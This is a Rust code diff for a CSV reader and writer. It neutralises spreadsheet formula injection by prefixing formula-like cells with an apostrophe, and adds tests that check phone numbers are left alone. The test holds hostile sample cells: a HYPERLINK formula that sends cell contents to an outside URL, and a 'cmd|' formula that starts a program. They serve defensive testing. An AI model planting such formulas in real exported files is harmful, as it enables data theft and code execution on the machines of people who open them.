@@ -100,9 +100,8 @@ impl CsvReader<'_> {
             self.next();
             let text = self.quoted(position)?;
             return match self.letters.peek() {
-                None | Some('\r' | '\n') => Ok(Cell { text, position }),
-                Some(letter) if *letter == self.separator => Ok(Cell { text, position }),
-                Some(_) => Err((self.position, msg!("csv-after-quote"))),
+                Some(letter) if !['\r', '\n', self.separator].contains(letter) => Err((self.position, msg!("csv-after-quote"))),
+                _ => Ok(Cell { text: as_meant(&text), position }),
             };
         }
         let mut text = String::new();
@@ -110,7 +109,7 @@ impl CsvReader<'_> {
             text.push(letter);
             self.next();
         }
-        Ok(Cell { text: text.trim().to_owned(), position })
+        Ok(Cell { text: as_meant(&text), position })
     }
 
     /// The rest of a quoted cell. Two quotation marks are one.
@@ -123,11 +122,32 @@ impl CsvReader<'_> {
                     self.next();
                     text.push('"');
                 }
-                Some('"') => return Ok(text.trim().to_owned()),
+                Some('"') => return Ok(text),
                 Some('\r') if self.letters.peek() == Some(&'\n') => {}
                 Some(letter) => text.push(letter),
             }
         }
+    }
+}
+
+/// A cell without blanks around it, and without the apostrophe before what a spreadsheet would take for a formula.
+fn as_meant(text: &str) -> String {
+    let text = text.trim();
+    text.strip_prefix(APOSTROPHE).filter(|text| is_formula(text)).unwrap_or(text).to_owned()
+}
+
+/// Tells a spreadsheet that a cell is a text.
+const APOSTROPHE: char = '\'';
+
+/// Whether a spreadsheet would compute a cell when it opens the file: a formula can send other cells to a server, or start a program.
+/// A phone number with a plus sign is none: it calls no function (`+NAME(`) and no program (`+name|`).
+fn is_formula(cell: &str) -> bool {
+    match cell.chars().next() {
+        Some('=' | '@' | '＝' | '＠') => true,
+        Some('+' | '-' | '＋' | '－') => {
+            cell.contains('|') || cell.match_indices('(').any(|(at, _)| cell[..at].ends_with(char::is_alphabetic))
+        }
+        _ => false,
     }
 }
 
@@ -139,10 +159,11 @@ pub(crate) fn write_csv(rows: &[Vec<String>]) -> String {
             if at > 0 {
                 text.push(',');
             }
+            let mark = if is_formula(cell) { "'" } else { "" };
             if cell.contains([',', ';', '\t', '"', '\n', '\r']) {
-                text.extend(["\"", &cell.replace('"', "\"\""), "\""]);
+                text.extend(["\"", mark, &cell.replace('"', "\"\""), "\""]);
             } else {
-                text.push_str(cell);
+                text.extend([mark, cell]);
             }
         }
         text.push('\n');
@@ -178,6 +199,20 @@ mod tests {
         let text = write_csv(&rows);
         assert_eq!(text, "a,\"b;c\"\n\"1, 2\",\"x \"\"y\"\"\nz\"\n,d\n");
         assert_eq!(cells(&text), rows);
+    }
+
+    #[test]
+    fn a_spreadsheet_computes_nothing_in_what_is_written() {
+        for formula in ["=1+1", "=HYPERLINK(\"http://a.kz/?x=\"&A1)", "@SUM(A1)", "+cmd|'/C calc'!A1", "-2+ГИПЕРССЫЛКА(A1;B1)", "＝A1"]
+        {
+            let rows = [vec![formula.to_owned()], vec!["'quoted'".to_owned()]];
+            let text = write_csv(&rows);
+            assert!(text.starts_with(['\'']) || text.starts_with("\"'"), "{text}");
+            assert_eq!(cells(&text), rows);
+        }
+        for phone in ["+7 (7172) 74-97-20", "+77172749720", "-", "- 5", "+7 7212 34-70-42 (кезекші)"] {
+            assert_eq!(write_csv(&[vec![phone.to_owned()]]), format!("{phone}\n"));
+        }
     }
 
     #[test]
